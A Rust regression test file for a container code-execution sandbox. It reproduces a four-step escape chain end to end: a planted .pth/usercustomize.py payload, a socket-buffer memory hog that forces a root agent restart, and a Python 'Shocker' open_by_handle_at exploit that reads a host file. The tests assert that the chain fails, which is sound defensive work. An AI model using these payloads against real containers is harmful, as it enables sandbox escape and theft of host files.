//! Issue 21: the chain from a non-root block to a file of the host, end to end, under the
//! defaults and with nothing but `run()` calls, and its last step alone.
//!
//! The chain, as a hostile-block review reproduced it against `9b8cbc3`:
//! 1. a non-root block plants a `.pth` file and a `usercustomize.py` in the user site dir of
//!    `HOME=/tmp`, which every user may write;
//! 2. another block fills the container's memory with socket buffers, which the OOM killer
//!    cannot charge to any process, so it killed the agent, the largest process;
//! 3. the next `run()` started a fresh agent, as root, whose `site` imported the planted code;
//! 4. that root code, holding `DAC_READ_SEARCH`, opened the host's filesystem behind the
//!    `/workspace` bind mount by handle (`open_by_handle_at`, "Shocker") and read a host file.
//!
//! Each step is closed by its own fix, with its own tests elsewhere; these tests check the
//! outcome an attacker wants: code of theirs running as uid 0, and a host file read.
mod common;

use std::path::PathBuf;
use std::time::Duration;

use dockexec::CodeBlock;

const LIMIT: Duration = Duration::from_secs(300);

/// A file of the host, outside every container and work dir: the host's temp dir, which is on
/// the same filesystem as the temporary work dirs (the handle walk starts from the root inode
/// of the filesystem behind `/workspace`). Removed on drop.
struct Canary {
    path: PathBuf,
    secret: String,
}

impl Canary {
    fn new() -> Canary {
        let secret = format!("host-secret-{}", common::unique_name("canary"));
        let path = std::env::temp_dir()
            .canonicalize()
            .unwrap()
            .join(format!("dockexec-canary-{}", common::unique_name("c")));
        std::fs::write(&path, &secret).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
        Canary { path, secret }
    }

    /// The canary's path from the root of its filesystem, as the handle walk opens it.
    fn relative(&self) -> String {
        self.path
            .strip_prefix("/")
            .unwrap()
            .to_string_lossy()
            .into_owned()
    }
}

impl Drop for Canary {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.path);
    }
}

/// Python that opens the root of the filesystem behind `/workspace` by handle (ext4's root
/// inode is 2, generation 0: no brute force needed) and reads `rel` from there. Prints
/// `LOOT:<contents>` or `REFUSED:<errno>`, or with `out` writes that line there instead (the
/// agent's stdout is its channel: a line printed there would only break the protocol).
fn shocker(rel: &str, out: Option<&str>) -> String {
    format!(
        r#"
import ctypes, os, platform, struct
def _shocker():
    nr = {{"x86_64": 304, "aarch64": 265}}[platform.machine()]
    libc = ctypes.CDLL(None, use_errno=True)
    fh = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)
    buf = ctypes.create_string_buffer(fh, len(fh))
    mfd = os.open("/workspace", os.O_RDONLY)
    fd = libc.syscall(nr, mfd, buf, os.O_RDONLY | os.O_DIRECTORY)
    if fd < 0:
        return "REFUSED:%d" % ctypes.get_errno()
    f = os.open({rel:?}, os.O_RDONLY, dir_fd=fd)
    return "LOOT:" + os.read(f, 4096).decode()
_line = _shocker()
if {out:?}:
    with open({out:?} % os.getpid(), "w") as f:
        f.write(_line + "\n")
else:
    print(_line)
"#,
        out = out.unwrap_or("")
    )
}

/// What the planted code left in `/tmp` (the one place root without `DAC_OVERRIDE` may
/// write, as the block user's dirs are closed to it): each `chain-*` file with its owner's
/// uid and contents, as a block lists them.
fn planted_reports(ex: &dockexec::Executor) -> String {
    let list = r#"
import glob, os
for p in sorted(glob.glob("/tmp/chain-*")):
    print(os.path.basename(p), os.stat(p).st_uid, open(p).read().strip())
"#;
    let out = ex.run(&CodeBlock::python(list)).unwrap();
    common::assert_success(&out);
    out.stdout_lossy().into_owned()
}

/// The chain as written, with nothing but `run()` calls under the defaults (the suite's
/// strategy: the agent's steps matter on `Auto` and `Agent`; on `Exec` no root Python ever
/// starts, and the chain must fail there too).
#[test]
fn a_planted_site_dir_and_an_oom_never_give_a_block_root_or_a_host_file() {
    common::watchdog(LIMIT, || {
        let canary = Canary::new();
        let (mut b, _guard) = common::case_builder("escape-chain");
        b.timeout(Some(Duration::from_secs(120)));
        let ex = b.start().unwrap();

        // Step 1: plant, as the block user, what `site` runs at a Python start with HOME=/tmp.
        let payload = format!(
            "import os\nif os.getuid() == 0 or os.geteuid() == 0:\n    \
             open('/tmp/chain-root-%d' % os.getpid(), 'w').write('planted code ran as root\\n')\n\
             {}",
            shocker(&canary.relative(), Some("/tmp/chain-loot-%d"))
                .lines()
                .map(|l| format!("    {l}\n"))
                .collect::<String>()
        );
        let plant = format!(
            r#"
import os, site, sys
d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
open(os.path.join(d, "chain_payload.py"), "w").write({payload:?})
open(os.path.join(d, "usercustomize.py"), "w").write("import chain_payload\n")
open(os.path.join(d, "zz-chain.pth"), "w").write("import chain_payload\n")
print(os.getuid(), d)
"#
        );
        let out = ex.run(&CodeBlock::python(plant)).unwrap();
        common::assert_success(&out);
        assert!(
            !out.stdout_lossy().starts_with("0 "),
            "the default block user is not root: {out:?}"
        );

        // Step 2: memory no process can be charged for: ten fresh interpreters each queue
        // up to 400 MiB in unix socket buffers, past the default 2 GiB limit.
        let hog = r#"
import subprocess, sys
child = '''
import socket, time
pairs, total = [], 0
try:
    while total < (400 << 20):
        a, b = socket.socketpair()
        a.setblocking(False)
        pairs.append((a, b))
        try:
            while True:
                total += a.send(bytes(65536))
        except BlockingIOError:
            pass
except OSError:
    pass
time.sleep(20)
'''
procs = [subprocess.Popen([sys.executable, "-c", child]) for _ in range(10)]
for p in procs:
    p.wait()
"#;
        // Under gVisor the socket buffers stay in gVisor's kernel: the hog meets no limit and
        // would only run to its timeout (or end the whole sandbox); the chain's other steps
        // still run.
        if !common::differs_here(
            "a_planted_site_dir_and_an_oom_never_give_a_block_root_or_a_host_file",
            common::Differs::SocketHogNotKilled,
        ) {
            let hogged = ex.run(&CodeBlock::python(hog));
            eprintln!("the hog block: {hogged:?}");
        }
        if matches!(
            ex.run(&CodeBlock::sh("true")),
            Err(dockexec::Error::ContainerGone { .. })
        ) && common::differs_here(
            "a_planted_site_dir_and_an_oom_never_give_a_block_root_or_a_host_file",
            common::Differs::LimitsEndTheSandbox,
        ) {
            // The chain ends here: no container, so no fresh agent to run the planted code.
            return;
        }

        // Step 3: ordinary blocks; on the old code the first of them started a fresh agent,
        // which ran the planted code as root. Retried, as an attacker would, should the memory
        // still be full for a moment.
        let mut ran = false;
        for _ in 0..20 {
            match ex.run(&CodeBlock::python("print('next')")) {
                Ok(o) if o.status.success() => {
                    ran = true;
                    break;
                }
                other => {
                    eprintln!("a next block: {other:?}");
                    std::thread::sleep(Duration::from_millis(500));
                }
            }
        }
        let first = planted_reports(&ex);
        // Step 3 again, through restart(), which also started a fresh root agent.
        ex.restart().unwrap();
        let after = ex
            .run(&CodeBlock::python("print('after restart')"))
            .unwrap();
        common::assert_success(&after);
        let second = planted_reports(&ex);
        ex.stop().unwrap();
        for reports in [&first, &second] {
            assert!(
                !reports.contains("chain-root-"),
                "planted code ran as root in the container:\n{reports}"
            );
            assert!(
                !reports.contains(&canary.secret),
                "a block read the host file {}:\n{reports}",
                canary.path.display()
            );
        }
        assert!(
            ran,
            "no ordinary block ran after the hog: the executor is wedged"
        );
    });
}

/// Step 4 alone, with the block as root by the caller's choice (`user("0")`): root in the
/// container still cannot open the host's filesystem by handle, on every strategy, with
/// the default capabilities (on `Exec` and `Auto` they used to include `DAC_READ_SEARCH`).
#[test]
fn an_opt_in_root_block_cannot_read_a_host_file_by_handle() {
    common::watchdog(Duration::from_secs(60), || {
        let canary = Canary::new();
        let (mut b, _guard) = common::case_builder("escape-root-handle");
        b.user("0");
        let ex = b.start().unwrap();
        let out = ex
            .run(&CodeBlock::python(shocker(&canary.relative(), None)))
            .unwrap();
        ex.stop().unwrap();
        let text = out.stdout_lossy();
        assert!(
            !text.contains(&canary.secret),
            "a root block read the host file {}: {out:?}",
            canary.path.display()
        );
        let refused = if common::differs_here(
            "an_opt_in_root_block_cannot_read_a_host_file_by_handle",
            common::Differs::HandleSyscallErrno,
        ) {
            "REFUSED:95\n"
        } else {
            "REFUSED:1\n"
        };
        assert!(text.starts_with(refused), "refused: {out:?}");
    });
}
